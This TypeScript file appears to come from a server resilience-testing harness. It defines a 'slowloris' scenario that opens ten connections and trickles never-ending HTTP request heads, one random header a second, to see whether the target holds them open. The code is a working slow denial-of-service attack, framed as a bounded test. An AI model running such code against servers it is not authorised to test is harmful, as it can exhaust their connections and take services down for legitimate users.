import type { Socket } from 'node:net';
import { classifyReply } from '../classify-reply.js';
import { BROWSER_AGENT } from '../payload/injection-points.js';
import { exchange, type Reply } from '../raw-exchange.js';
import type { Scenario, ScenarioContext } from '../scenario.js';

const CONNECTIONS = 10;
const TRICKLE_MS = 1000;

/** Opens a request head and never ends it: one more header line a second, until the server gives up. */
function trickle(ctx: ScenarioContext, socket: Socket): void {
  socket.write(
    `GET /?${ctx.random.word(6)} HTTP/1.1\r\nHost: ${ctx.target.host}\r\nUser-Agent: ${BROWSER_AGENT}\r\n`,
  );
  const timer = setInterval(() => {
    if (socket.destroyed) return clearInterval(timer);
    socket.write(`X-${ctx.random.word(5)}: ${ctx.random.word(8)}\r\n`);
  }, TRICKLE_MS);
  socket.once('close', () => clearInterval(timer));
}

/**
 * Still waiting when the scenario's time ran out: the server would have held the connection for ever, the
 * attack worked. Cut off, with a 408 or without a word: answered.
 */
function outcomeOf(reply: Reply) {
  if (reply.ending === 'timeout' && reply.head === undefined) return 'passed' as const;
  return classifyReply(reply, { refusalBlocks: true });
}

/** Slowloris: ten connections that trickle a request head and never finish it, held at most 20 s. */
export const SLOWLORIS: Scenario = {
  name: 'slowloris',
  kind: 'protocol',
  summary: 'connections that trickle a request head one header a second and never end it',
  requests: CONNECTIONS,
  seconds: 20,
  grace: 0,
  expect: 'answer',
  run: async (ctx) => {
    const held: Promise<void>[] = [];
    while (held.length < CONNECTIONS && ctx.take()) {
      held.push(
        exchange(ctx.target.endpoint, (socket) => trickle(ctx, socket), {
          localAddress: ctx.client,
          timeoutMs: ctx.timeLeft(),
          maxBodyBytes: 4096,
        }).then((reply) => {
          const status = reply.head?.status ?? null;
          ctx.record(outcomeOf(reply), reply.ms, { request: 'GET / (head never ended)', status });
        }),
      );
    }
    await Promise.all(held);
  },
};
